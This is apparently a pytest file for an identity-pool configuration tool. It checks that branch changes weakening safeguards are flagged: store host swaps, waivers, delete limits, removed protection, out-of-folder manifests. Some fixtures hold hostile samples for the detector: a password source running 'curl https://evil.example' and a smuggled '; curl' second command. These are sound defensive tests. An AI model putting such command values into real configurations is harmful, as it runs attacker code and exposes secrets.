"""What a branch loosens, change by change; and that the same changes backwards, or none, are not called looser."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from pool_as_code.app.loosened import Side, compare, counterpart
from pool_as_code.core.diagnostics import Severity, has_errors
from pool_as_code.manifest.load import load
from pool_as_code.manifest.project import read_project
from pool_as_code.plan.model import Finding
from tests.house import document

BLOCK, WARN, INFO = Severity.BLOCK, Severity.WARN, Severity.INFO
STORE = "secureauth+https://id.example.com/shop"
HASH_FROM = {"hash": {"fromFile": "ada.hash"}}


@dataclass
class Case:
    """Changes of the project file and of the documents, `before` and `after`; what is found, in which environment."""

    before: dict[str, Any] = field(default_factory=dict)
    after: dict[str, Any] = field(default_factory=dict)
    old: list[dict[str, Any]] = field(default_factory=list)
    new: list[dict[str, Any]] = field(default_factory=list)
    found: list[tuple[Severity, str, str]] = field(default_factory=list)
    env: str = "prod"


def prod(**said: Any) -> dict[str, Any]:
    return {"environments": {"prod": {"store": STORE, **said}}}


def pool(**metadata: Any) -> dict[str, Any]:
    return document("IdentityPool", {"name": "customers", **metadata})


def user(password: dict[str, Any] | None, **metadata: Any) -> dict[str, Any]:
    spec = {"password": password} if password else {}
    return document("User", {"name": "ada", "pool": "customers", **metadata}, **spec)


def initial(**source: str) -> dict[str, Any]:
    return {"initial": source}


def waiver(expires: str, rule: str = "second-factor-missing", **about: str) -> dict[str, str]:
    return {"rule": rule, "reason": "for a while", "expires": expires, **about}


CASES: dict[str, Case] = {
    "another project": Case(
        prod(), {"id": "p-anotherproject", **prod()}, found=[(BLOCK, "project/id", "owns nothing")]
    ),
    "an environment removed": Case(
        {"environments": {"prod": {"store": STORE}, "dev": {}}},
        prod(),
        found=[(BLOCK, "project/environments/dev", "not there any more")],
    ),
    "an environment renamed": Case(
        prod(protected=True),
        {"environments": {"live": {"store": "secureauth+https://ID.example.com:443/shop/"}}},
        env="live",
        found=[
            (BLOCK, "project/environments/prod", "called live now"),
            (BLOCK, "project/environments/live/store", "the store is"),
            (BLOCK, "project/environments/live/protected", "not protected any more"),
        ],
    ),
    "environments where there were none": Case(
        {},
        prod(),
        found=[
            (BLOCK, "project/environments/default", "called prod"),
            (BLOCK, "project/environments/prod/store", STORE),
        ],
    ),
    "another host": Case(
        prod(),
        prod(store="secureauth+https://id.evil.example/shop"),
        found=[(BLOCK, "project/environments/prod/store", "id.evil.example")],
    ),
    "another scheme": Case(
        prod(),
        prod(store="secureauth+http://id.example.com/shop"),
        found=[(BLOCK, "project/environments/prod/store", "secureauth+http:")],
    ),
    "another tenant": Case(
        prod(),
        prod(store="secureauth+https://id.example.com/other"),
        found=[(BLOCK, "project/environments/prod/store", "/other")],
    ),
    "another user of the store": Case(
        prod(store="postgresql://ada:hunter2@db.example/pac"),
        prod(store="postgresql://eve:hunter3@db.example/pac"),
        found=[(BLOCK, "project/environments/prod/store", "the user or the options")],
    ),
    "no store": Case(
        prod(), {"environments": {"prod": {}}}, found=[(BLOCK, "project/environments/prod/store", "not said")]
    ),
    "no protection": Case(
        prod(protected=True),
        prod(),
        found=[(BLOCK, "project/environments/prod/protected", "not protected any more")],
    ),
    "more deletes": Case(
        {"maxDeletes": {"user": 5}, **prod()},
        {"maxDeletes": {"user": 500}, **prod()},
        found=[(BLOCK, "project/maxDeletes/user", "500 deletes")],
    ),
    "more deletes in the environment": Case(
        {"maxDeletes": {"user": 5}, **prod(maxDeletes={"pool": 0})},
        {"maxDeletes": {"user": 5}, **prod(maxDeletes={"pool": 1})},
        found=[(BLOCK, "project/environments/prod/maxDeletes/pool", "1 deletes of kind pool")],
    ),
    "deletes where none were permitted": Case(
        prod(), {"maxDeletes": {"pool": 1}, **prod()}, found=[(BLOCK, "project/maxDeletes/pool", "1 deletes")]
    ),
    "no limit any more": Case(
        {"maxDeletes": {"user": 0}, **prod()}, prod(), found=[(BLOCK, "project/maxDeletes/user", "no limit")]
    ),
    "a rule that is switched off": Case(
        prod(),
        {"rules": {"second-factor-missing": "ignore"}, **prod()},
        found=[(BLOCK, "project/rules/second-factor-missing", "ignore instead of")],
    ),
    "a waiver": Case(
        prod(),
        {"waivers": [waiver("2030-01-01", address="pool/*")], **prod()},
        found=[(BLOCK, "project/waivers/second-factor-missing/pool/*", "at pool/* until 2030-01-01")],
    ),
    "a waiver that lasts longer": Case(
        {"waivers": [waiver("2030-01-01")], **prod()},
        {"waivers": [waiver("2031-01-01")], **prod()},
        found=[(BLOCK, "project/waivers/second-factor-missing", "everywhere until 2031-01-01")],
    ),
    "a wider waiver": Case(
        {"waivers": [waiver("2030-01-01", address="pool/customers")], **prod()},
        {"waivers": [waiver("2030-01-01")], **prod()},
        found=[
            (BLOCK, "project/waivers/second-factor-missing", "everywhere"),
            (INFO, "project/waivers/second-factor-missing/pool/customers", "gone"),
        ],
    ),
    "manifests from outside": Case(
        prod(),
        {"manifests": ["manifests", "../elsewhere"], **prod()},
        found=[(BLOCK, "project/manifests", "../elsewhere")],
    ),
    "a binding": Case(
        prod(),
        prod(bindings={"pool/customers": "c67evw7mj4"}),
        new=[pool()],
        old=[pool()],
        found=[(WARN, "pool/customers", "c67evw7mj4")],
    ),
    "another binding": Case(
        prod(bindings={"pool/customers": "c67evw7mj4"}),
        prod(bindings={"pool/customers": "another"}),
        new=[pool()],
        old=[pool()],
        found=[(BLOCK, "pool/customers", "another live object")],
    ),
    "another default": Case(
        {"defaultEnvironment": "prod", **prod()},
        prod(),
        found=[(WARN, "project/defaultEnvironment", "no defaultEnvironment")],
    ),
    "a pool that is not protected any more": Case(
        prod(), prod(), [pool(protect=True)], [pool()], [(BLOCK, "pool/customers", "not protected from deletion")]
    ),
    "a pool whose new name is not protected": Case(
        prod(),
        prod(),
        [pool(protect=True)],
        [document("IdentityPool", {"name": "people", "previousNames": ["customers"]})],
        [(BLOCK, "pool/people", "not protected from deletion")],
    ),
    "a protected pool that is given up": Case(
        prod(),
        prod(),
        [pool(protect=True)],
        [pool(protect=True, state="released")],
        [(BLOCK, "pool/customers", "given up")],
    ),
    "a protected pool that is not declared": Case(
        prod(), prod(), [pool(protect=True)], [], [(INFO, "pool/customers", "stays protected")]
    ),
    "a protected pool that a patch opens": Case(
        prod(),
        prod(patches=[{"targets": ["pool/*"], "merge": {"metadata": {"protect": False}}}]),
        [pool(protect=True)],
        [pool(protect=True)],
        [(BLOCK, "pool/customers", "not protected from deletion")],
    ),
    "a command": Case(
        prod(),
        prod(),
        [pool(), user(initial(fromEnv="ADA_PASSWORD"))],
        [pool(), user(initial(fromCommand="curl https://evil.example"))],
        [(BLOCK, "user/customers/ada", "password.initial comes from a command")],
    ),
    "another command": Case(
        prod(),
        prod(),
        [pool(), user(initial(fromCommand="pass ada"))],
        [pool(), user(initial(fromCommand="pass ada; curl https://evil.example"))],
        [(BLOCK, "user/customers/ada", "from a command that was not there")],
    ),
    "a command of a new user": Case(
        prod(), prod(), [pool()], [pool(), user(initial(fromCommand="id"))], [(BLOCK, "user/customers/ada", "command")]
    ),
    "another variable": Case(
        prod(),
        prod(),
        [pool(), user(initial(fromEnv="ADA_PASSWORD"))],
        [pool(), user(initial(fromEnv="DEPLOY_TOKEN"))],
        [(WARN, "user/customers/ada", "password.initial comes from fromEnv:DEPLOY_TOKEN")],
    ),
    "a file for a variable": Case(
        prod(),
        prod(),
        [pool(), user({"hash": {"fromEnv": "ADA_HASH"}})],
        [pool(), user(HASH_FROM)],
        [(WARN, "user/customers/ada", "password.hash comes from fromFile:ada.hash")],
    ),
    "an object of another project": Case(
        prod(), prod(), [pool()], [pool(adopt={"from": "p-another"})], [(BLOCK, "pool/customers", "p-another")]
    ),
    "unknown methods": Case(
        prod(),
        prod(),
        [pool()],
        [{**pool(), "spec": {"signIn": {"allowUnknownMethods": True}}}],
        [(WARN, "pool/customers", "allowUnknownMethods")],
    ),
}


def side(
    folder: Path, said: dict[str, Any], documents: list[dict[str, Any]], env: str, before: Side | None = None
) -> Side:
    (folder / "manifests").mkdir(parents=True)
    (folder.parent / "elsewhere").mkdir(exist_ok=True)
    (folder.parent / "elsewhere" / "more.yaml").write_text(json.dumps(document("Schema", {"name": "more"})))
    about = {"apiVersion": "pool-as-code/v1", "kind": "Project", "id": "p-0123456789abcdef", "name": "x"}
    (folder / "pool-as-code.yaml").write_text(json.dumps({**about, "manifests": ["manifests"], **said}))
    text = "\n---\n".join(json.dumps(one) for one in [*documents, document("Schema", {"name": "kept"})])
    (folder / "manifests" / "all.yaml").write_text(text)
    project = read_project(folder / "pool-as-code.yaml")
    environment = project.environments.get(env)
    if environment is None:
        assert before is not None
        assert before.environment is not None
        environment = counterpart(project, before.project, before.environment)
        assert environment is not None
    loaded = load(project=project, environment=environment, cwd=folder, environ={"POOL_AS_CODE_ALLOW_COMMANDS": "1"})
    assert not has_errors(loaded.diagnostics), loaded.diagnostics
    return Side(project, environment, loaded.state.resources)


def both(case: Case, tmp_path: Path) -> tuple[Side, Side]:
    after = side(tmp_path / "after", case.after, case.new, case.env)
    return side(tmp_path / "before", case.before, case.old, case.env, after), after


def short(found: tuple[Finding, ...]) -> list[tuple[Severity, str]]:
    return [(one.severity, one.address) for one in found]


@pytest.mark.parametrize("case", CASES.values(), ids=CASES)
def test_what_becomes_looser_is_found_and_nothing_else(case: Case, tmp_path: Path) -> None:
    before, after = both(case, tmp_path)
    found = compare(before, after, "main")
    assert short(found) == [(severity, address) for severity, address, _ in case.found]
    for one, (severity, address, words) in zip(found, case.found, strict=True):
        assert words in one.reason
        assert "hunter" not in one.reason + one.detail
        assert one.code == ("guard-tightened" if severity is INFO and "waivers" in address else "guard-loosened")
        assert (f"guard-loosened@{address}" in one.next_step) is (severity is BLOCK)


@pytest.mark.parametrize("case", CASES.values(), ids=CASES)
def test_nothing_is_looser_than_itself(case: Case, tmp_path: Path) -> None:
    _, after = both(case, tmp_path)
    assert compare(after, after, "main") == ()


BACKWARDS = [
    name for name, case in CASES.items() if name not in ("an environment renamed", "environments where there were none")
]
TIGHTER = {
    "no protection": "project/environments/prod/protected",
    "more deletes": "project/maxDeletes/user",
    "more deletes in the environment": "project/environments/prod/maxDeletes/pool",
    "deletes where none were permitted": "project/maxDeletes/pool",
    "no limit any more": "project/maxDeletes/user",
    "a waiver": "project/waivers/second-factor-missing/pool/*",
    "a waiver that lasts longer": "project/waivers/second-factor-missing",
    "a pool that is not protected any more": "pool/customers",
    "a protected pool that a patch opens": "pool/customers",
}
SAME_EITHER_WAY = {
    "another project",
    "another host",
    "another scheme",
    "another tenant",
    "another user of the store",
    "no store",
    "a wider waiver",
    "another binding",
    "another default",
    "another command",
    "another variable",
    "a file for a variable",
    "a command",
}


@pytest.mark.parametrize("name", BACKWARDS)
def test_the_same_change_backwards_is_stricter_or_nothing(name: str, tmp_path: Path) -> None:
    before, after = both(CASES[name], tmp_path)
    found = compare(after, before, "main")
    if name in SAME_EITHER_WAY:
        assert {one.code for one in found} >= {"guard-loosened"}
    else:
        assert [one.code for one in found] == (["guard-tightened"] if name in TIGHTER else [])
        assert [one.address for one in found] == ([TIGHTER[name]] if name in TIGHTER else [])


def test_the_riskiest_stands_first(tmp_path: Path) -> None:
    case = Case(
        {"defaultEnvironment": "prod", **prod(protected=True, maxDeletes={"pool": 3})},
        prod(maxDeletes={"pool": 2}),
        [pool(protect=True)],
        [pool()],
    )
    before, after = both(case, tmp_path)
    assert short(compare(before, after, "main")) == [
        (BLOCK, "project/environments/prod/protected"),
        (BLOCK, "pool/customers"),
        (WARN, "project/defaultEnvironment"),
        (INFO, "project/environments/prod/maxDeletes/pool"),
    ]


def test_a_folder_that_becomes_a_link_out_is_found(tmp_path: Path) -> None:
    before, after = both(Case(prod(), prod()), tmp_path)
    after.project.root.joinpath("manifests", "all.yaml").unlink()
    after.project.root.joinpath("manifests").rmdir()
    after.project.root.joinpath("manifests").symlink_to(tmp_path / "elsewhere")
    assert short(compare(before, after, "main")) == [(BLOCK, "project/manifests")]


def test_manifests_that_can_not_be_read_leave_the_project_files(tmp_path: Path) -> None:
    before, after = both(CASES["no protection"], tmp_path)
    blind = Side(before.project, before.environment, None)
    assert short(compare(blind, after, "main")) == [(BLOCK, "project/environments/prod/protected")]
